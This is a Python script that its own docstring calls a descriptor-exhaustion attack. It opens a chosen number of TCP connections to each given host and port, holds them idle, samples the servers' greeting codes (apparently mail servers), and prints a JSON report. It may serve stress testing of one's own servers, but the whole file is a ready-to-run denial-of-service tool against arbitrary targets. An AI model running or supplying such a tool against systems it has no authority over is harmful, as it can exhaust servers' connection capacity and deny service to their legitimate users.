#!/usr/bin/python3
"""Opens many TCP connections and holds them, reading nothing (stdlib only): a descriptor-exhaustion attack.

hold_connections.py --target HOST:PORT:COUNT [--target ...] --hold SECONDS
    Opens COUNT connections to each HOST:PORT (interleaved, as fast as it can), never reads or writes, holds
    them all SECONDS, then closes them. Prints one JSON line: {"targets": {"HOST:PORT": {"opened": n,
    "errors": {name: n}, "greetings": {code: n}, "refusals": [distinct non-220 first lines]}}, "open_seconds": time
    to open them all}. The greetings are read once, 2 s after the last connection opened, without waiting: "220",
    "421", ..., "closed" (EOF, closed at once), "reset", or "none" (nothing sent yet).
"""

import argparse
import collections
import json
import socket
import time


def first_line_code(sock, entry):
    sock.setblocking(False)
    try:
        data = sock.recv(1024)
    except BlockingIOError:
        return "none"
    except ConnectionResetError:
        return "reset"
    except OSError as e:
        return type(e).__name__
    if not data:
        return "closed"
    line = data.decode("latin-1").split("\r\n")[0]
    if not line.startswith("220"):
        entry["refusals"].add(line)
    return line[:3] if line[:3].isdigit() else "other"


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--target", action="append", required=True)
    parser.add_argument("--hold", type=float, required=True)
    args = parser.parse_args()

    targets = []
    for spec in args.target:
        host, port, count = spec.rsplit(":", 2)
        targets.append((host, int(port), int(count)))

    held = []
    report = {f"{h}:{p}": {"opened": 0, "errors": collections.Counter(), "greetings": collections.Counter(), "refusals": set()}
              for h, p, _ in targets}
    start = time.monotonic()
    for i in range(max(c for _, _, c in targets)):
        for host, port, count in targets:
            if i >= count:
                continue
            entry = report[f"{host}:{port}"]
            try:
                held.append((entry, socket.create_connection((host, port), timeout=5)))
                entry["opened"] += 1
            except OSError as e:
                entry["errors"][type(e).__name__] += 1
    opened = time.monotonic() - start
    time.sleep(min(2.0, args.hold))
    for entry, sock in held:
        entry["greetings"][first_line_code(sock, entry)] += 1
    time.sleep(max(0.0, args.hold - 2.0))
    for _, sock in held:
        sock.close()
    for entry in report.values():
        entry["refusals"] = sorted(entry["refusals"])
    print(json.dumps({"targets": report, "open_seconds": round(opened, 3)}), flush=True)


if __name__ == "__main__":
    main()
